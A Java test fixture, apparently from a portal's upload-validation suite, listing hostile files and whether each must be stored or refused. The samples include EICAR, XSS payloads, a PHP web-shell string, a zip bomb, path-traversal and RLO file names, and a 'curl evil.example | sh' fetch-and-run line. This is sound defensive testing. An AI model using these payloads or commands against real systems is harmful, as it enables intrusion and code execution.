package io.shoreline.portal.web.corpora;

import static io.shoreline.portal.web.corpora.HostileFiles.EICAR;
import static io.shoreline.portal.web.corpora.HostileFiles.ascii;
import static io.shoreline.portal.web.corpora.HostileFiles.concat;

import java.util.List;
import java.util.function.Supplier;

/**
 * The hostile upload corpus: what each file tries, and what the portal must do with it as a post's
 * attachment. {@code stored} is the content type it is kept and served as; null when it is refused,
 * and then {@code refusal} is a phrase of the message. A finding's photo gets the same answer,
 * except that what is stored but is no image is refused as "not an image".
 */
final class UploadCases {

  static final String MALWARE = "looks like malware";
  static final String NOT_ACCEPTED = "which the portal does not accept";
  static final String TOO_MANY_PIXELS = "more than the portal accepts";
  static final String UNREADABLE_IMAGE = "its header cannot be read";
  static final String EMPTY = "A file is empty";

  /**
   * One file: its name as sent, how it is made, and the answer it must get; as a photo, the
   * refusal's phrase (null for an image that is stored).
   */
  record Case(
      String fileName, Supplier<byte[]> content, String stored, String refusal, String asPhoto) {

    static Case stored(String fileName, Supplier<byte[]> content, String type) {
      return new Case(
          fileName, content, type, null, type.startsWith("image/") ? null : "not an image");
    }

    static Case refused(String fileName, Supplier<byte[]> content, String refusal) {
      return new Case(fileName, content, null, refusal, refusal);
    }

    /**
     * The photo field accepts image/* only: PrimeFaces refuses a name it cannot type (no extension)
     * before the portal sees the file, with its own message.
     */
    Case refusedAsPhotoBy(String photoRefusal) {
      return new Case(fileName, content, stored, refusal, photoRefusal);
    }

    @Override
    public String toString() {
      return fileName;
    }
  }

  private UploadCases() {}

  static List<Case> all() {
    byte[] pdf = ascii("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");
    return List.of(
        // the anti-virus test file, plainly, zipped without compression, after a prefix
        Case.refused("eicar.com", () -> EICAR, MALWARE),
        Case.refused("eicar.txt", () -> concat(EICAR, ascii("\r\n")), MALWARE),
        Case.refused("eicar.zip", () -> HostileFiles.zip(true, "eicar.com", EICAR), MALWARE),
        Case.refused(
            "eicar-deflated.zip", () -> HostileFiles.zip(false, "eicar.com", EICAR), NOT_ACCEPTED),
        Case.refused(
            "notes.txt", () -> concat(ascii("n".repeat(1024)), EICAR, ascii("\nmore")), MALWARE),
        Case.refused("eicar.png", () -> concat(HostileFiles.image("png"), EICAR), MALWARE),
        // polyglots: what the bytes start as decides, and is what is served
        Case.stored(
            "gifar.gif",
            () ->
                concat(
                    HostileFiles.image("gif"),
                    HostileFiles.zip(false, "META-INF/MANIFEST.MF", ascii("Main-Class: X\n"))),
            "image/gif"),
        Case.stored(
            "chart.png",
            () ->
                concat(
                    HostileFiles.image("png"),
                    ascii("<html><script>alert(document.cookie)</script></html>")),
            "image/png"),
        Case.stored(
            "photo.jpg",
            () -> HostileFiles.jpegWithComment("<script>alert(1)</script><?php system($_GET[c]);"),
            "image/jpeg"),
        Case.stored("invoice.pdf", HostileFiles::pdfWithJavaScript, "application/pdf"),
        Case.stored(
            "pdf-zip.pdf",
            () -> concat(pdf, HostileFiles.zip(false, "x.html", ascii("<script>1</script>"))),
            "application/pdf"),
        Case.refused(
            "logo.png",
            () ->
                ascii(
                    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">"
                        + "<script>alert(2)</script></svg>"),
            NOT_ACCEPTED),
        Case.refused(
            "holiday.jpg",
            () -> ascii("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
            NOT_ACCEPTED),
        Case.refused("shell.jpg", () -> ascii("<?php system($_GET['c']); ?>"), NOT_ACCEPTED),
        // decompression bombs: never inflated by the portal
        Case.refused("bomb.zip", () -> HostileFiles.zipBomb(16, "zeros.bin"), NOT_ACCEPTED),
        Case.refused(
            "bomb.docx", () -> HostileFiles.zipBomb(16, "word/document.xml"), NOT_ACCEPTED),
        Case.stored(
            "bomb.xlsx",
            () ->
                HostileFiles.zipBomb(
                    16,
                    "xl/worksheets/sheet1.xml",
                    "[Content_Types].xml",
                    ascii("<?xml version=\"1.0\"?><Types/>")),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        Case.refused("pixels.png", () -> HostileFiles.pixelBomb(30_000, 30_000), TOO_MANY_PIXELS),
        Case.refused("banner.png", () -> HostileFiles.pixelBomb(20_001, 1), TOO_MANY_PIXELS),
        Case.refused("canvas.webp", () -> HostileFiles.webpCanvas(16_000, 16_000), TOO_MANY_PIXELS),
        Case.refused(
            "cut.png",
            () -> java.util.Arrays.copyOf(HostileFiles.image("png"), 12),
            UNREADABLE_IMAGE),
        // programs under other names
        Case.refused("report.pdf", HostileFiles::windowsExecutable, NOT_ACCEPTED),
        Case.refused("avatar.png", HostileFiles::elfExecutable, NOT_ACCEPTED),
        Case.refused(
            "readme.txt", () -> ascii("#!/bin/sh\ncurl evil.example | sh\n"), NOT_ACCEPTED),
        Case.refused("report.pdf.exe", HostileFiles::windowsExecutable, NOT_ACCEPTED),
        Case.refused("scan.jpg.exe", HostileFiles::windowsExecutable, NOT_ACCEPTED),
        // names: kept as a name only, never a path or invisible characters
        // PrimeFaces refuses a name that climbs out of its directory, with its own message
        Case.refused("../../../etc/passwd", () -> ascii("root:x:0:0\n"), "File Error"),
        Case.stored("..\\..\\windows\\win.ini", () -> ascii("[fonts]\n"), "text/plain"),
        Case.stored("invoice\u202Egpj.exe", () -> pdf, "application/pdf"),
        Case.stored("bell\u0007tab\tnul.txt", () -> ascii("plain"), "text/plain"),
        Case.stored("x".repeat(300) + ".pdf", () -> pdf, "application/pdf"),
        Case.stored("r\u00e9sum\u00e9 final;.pdf", () -> pdf, "application/pdf"),
        Case.stored("photo.png", () -> HostileFiles.image("jpeg"), "image/jpeg"),
        Case.refused("empty.txt", () -> new byte[0], EMPTY));
  }
}
